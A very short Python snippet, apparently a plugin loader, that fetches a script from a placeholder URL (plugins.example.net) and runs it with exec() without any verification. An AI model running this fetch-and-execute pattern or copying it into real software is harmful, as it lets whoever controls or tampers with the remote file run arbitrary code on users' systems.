import requests

URL = 'https://plugins.example.net/latest.py'
code = requests.get(URL, timeout=10).text
exec(code)
